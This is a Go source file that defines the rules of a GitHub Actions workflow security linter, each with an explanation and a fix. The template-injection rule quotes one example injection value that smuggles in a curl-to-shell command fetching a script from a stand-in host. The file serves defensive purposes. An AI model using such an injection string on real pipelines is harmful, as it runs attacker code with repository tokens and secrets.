package workflowlint

// Rule describes one check, for docs and `--help`.
type Rule struct {
	ID, Title, Why, Fix string
	// Severity is the rule's severity; unpinned-uses and template-injection also report
	// some lesser cases as warnings (their Title says which).
	Severity Severity
}

// Rule ids; zizmor's where zizmor has the same audit.
const (
	ruleDangerousTriggers = "dangerous-triggers"
	ruleUnpinnedUses      = "unpinned-uses"
	ruleExcessivePerms    = "excessive-permissions"
	ruleIDTokenScope      = "id-token-scope"
	ruleArtipacked        = "artipacked"
	rulePublishWithoutEnv = "publish-without-environment"
	ruleTemplateInjection = "template-injection"
)

var rules = []Rule{
	{
		ID:       ruleDangerousTriggers,
		Severity: SeverityError,
		Title:    "the workflow runs on pull_request_target or workflow_run",
		Why: "These triggers run with the base repository's secrets and a write-capable token " +
			"while acting on code or data from a fork, so anyone who can open a pull request can steer a privileged run.",
		Fix: "Release from `on: push: tags:` (or `release:`/`workflow_dispatch`); use `pull_request` for checks on pull requests.",
	},
	{
		ID:       ruleUnpinnedUses,
		Severity: SeverityError,
		Title:    "an action or reusable workflow is not pinned to a full commit SHA (warning: a SHA without a version comment)",
		Why: "A tag or branch can be moved to other code at any time, and that code then runs with this job's token and secrets; " +
			"only a full 40-character commit SHA names one fixed version.",
		Fix: "Pin to the full commit SHA of the release you checked and name the version in a comment: `uses: owner/repo@<40-hex SHA> # vX.Y.Z`.",
	},
	{
		ID:       ruleExcessivePerms,
		Severity: SeverityError,
		Title:    "the workflow's default permissions are missing or grant write access, or a job asks for write-all",
		Why: "Every job without its own `permissions:` gets the workflow's; with none at all it gets the repository's default " +
			"token, which may be able to write everything, so one compromised step can push code or publish.",
		Fix: "Set `permissions: {}` at the top level and give each job only the scopes it needs, in that job.",
	},
	{
		ID:       ruleIDTokenScope,
		Severity: SeverityError,
		Title:    "id-token: write is granted outside the one publishing job",
		Why: "id-token: write lets a job mint OIDC tokens that registries exchange for publish rights; " +
			"any job that holds it — including build steps running third-party code — can publish as this repository.",
		Fix: "Grant `id-token: write` only in the publishing job's own `permissions:`, never at the top level.",
	},
	{
		ID:       ruleArtipacked,
		Severity: SeverityError,
		Title:    "actions/checkout keeps the job's credentials in .git/config",
		Why: "By default actions/checkout writes the token into .git/config, where every later step can read it and from where " +
			"it leaks into any uploaded artifact or cache that includes the checkout.",
		Fix: "Add `with: persist-credentials: false` to the checkout step; give a token explicitly to the one step that needs it.",
	},
	{
		ID:       rulePublishWithoutEnv,
		Severity: SeverityError,
		Title:    "the publishing job has no environment",
		Why: "Without an environment there are no required reviewers, no branch or tag restriction, and nothing for a registry's " +
			"trusted publisher to bind to, so any run of the workflow can publish.",
		Fix: "Add `environment: release` (or your environment's name) to the publishing job and protect that environment in the repository settings.",
	},
	{
		ID:       ruleTemplateInjection,
		Severity: SeverityError,
		Title:    "a run: script expands attacker-controllable data with ${{ }} (warning: workflow inputs and step outputs)",
		Why: "The expression is pasted into the script before the shell reads it, so a value like `x\"; curl evil.sh | sh; \"` in a " +
			"title, branch or tag name becomes code running with the job's token and secrets.",
		Fix: "Pass the value through `env:` (e.g. `env: TITLE: ${{ github.event.issue.title }}`) and use \"$TITLE\" in the script.",
	},
}

var ruleByID = func() map[string]Rule {
	m := make(map[string]Rule, len(rules))
	for _, r := range rules {
		m[r.ID] = r
	}
	return m
}()

// Rules lists every rule: id, severity, one-line title, why, fix.
func Rules() []Rule {
	return append([]Rule(nil), rules...)
}
